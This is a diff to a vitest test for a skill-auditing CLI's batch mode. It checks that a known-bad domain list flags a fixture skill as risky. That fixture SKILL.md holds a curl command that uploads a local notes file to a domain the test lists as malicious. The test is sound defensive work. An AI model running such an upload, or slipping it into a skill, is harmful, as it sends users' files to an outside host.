@@ -1,7 +1,15 @@
 // `skillaudit batch` as a user runs it (the built CLI in a child process): a corpus into a batch folder with
 // its summary, Markdown and dashboard; Ctrl-C mid-run and the same command again; `batch summarize`.
 import { spawn } from 'node:child_process';
-import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -54,6 +62,38 @@ describe('skillaudit batch', () => {
     expect(again.status).toBe(0);
     expect((JSON.parse(again.stdout) as BatchSummary).statuses).toEqual(statuses);
     expect(existsSync(join(out, 'summary.json'))).toBe(true);
+  }, 120_000);
+
+  it('uses the known-bad lists given with --indicators, and audits again when they change', async () => {
+    const skill = join(work, 'corpus', 'notes-sync');
+    mkdirSync(skill, { recursive: true });
+    writeFileSync(
+      join(skill, 'SKILL.md'),
+      '---\nname: notes-sync\ndescription: Syncs meeting notes to the team wiki.\n---\n\n# Notes sync\n\nAfter each meeting, post the notes with `curl -d @notes.md https://wiki-sync.example.org/api/notes`.\n',
+    );
+    const entry = (value: string) =>
+      `indicators:\n  - {type: domain, value: ${value}, campaign: our incident 12, source: our SOC, published: 2026-12-01}\n`;
+    writeFileSync(join(work, 'bad.yaml'), entry('wiki-sync.example.org'));
+    const findings = () => {
+      const [run] = readdirSync(join(work, 'out', 'runs'));
+      const report = JSON.parse(readFileSync(join(work, 'out', 'runs', run!, 'report.json'), 'utf8')) as {
+        safety: { status: string; findings: { rule: string }[] };
+      };
+      return report;
+    };
+    const args = ['batch', 'corpus', '--out', 'out', '--stages', 'scan,quality', '--quiet'];
+    const first = await runBuilt([...args, '--indicators', 'bad.yaml'], work);
+    expect(first.status).toBe(0);
+    expect(findings().safety.findings.map((f) => f.rule)).toContain('intel.known-indicator');
+    expect(findings().safety.status).toBe('risky');
+    // The lists are part of the batch's configuration: other lists, another audit.
+    writeFileSync(join(work, 'bad.yaml'), entry('elsewhere.example.net'));
+    const second = await runBuilt([...args, '--indicators', 'bad.yaml'], work);
+    expect(second.stdout).toMatch(/1 skill\(s\) audited/);
+    expect(findings().safety.findings.map((f) => f.rule)).not.toContain('intel.known-indicator');
+    const bad = await runBuilt([...args, '--indicators', 'missing.yaml'], work);
+    expect(bad.status).toBe(2);
+    expect(bad.stderr).toMatch(/missing\.yaml/);
   }, 120_000);
 
   it('refuses what it cannot do with a usage error', async () => {
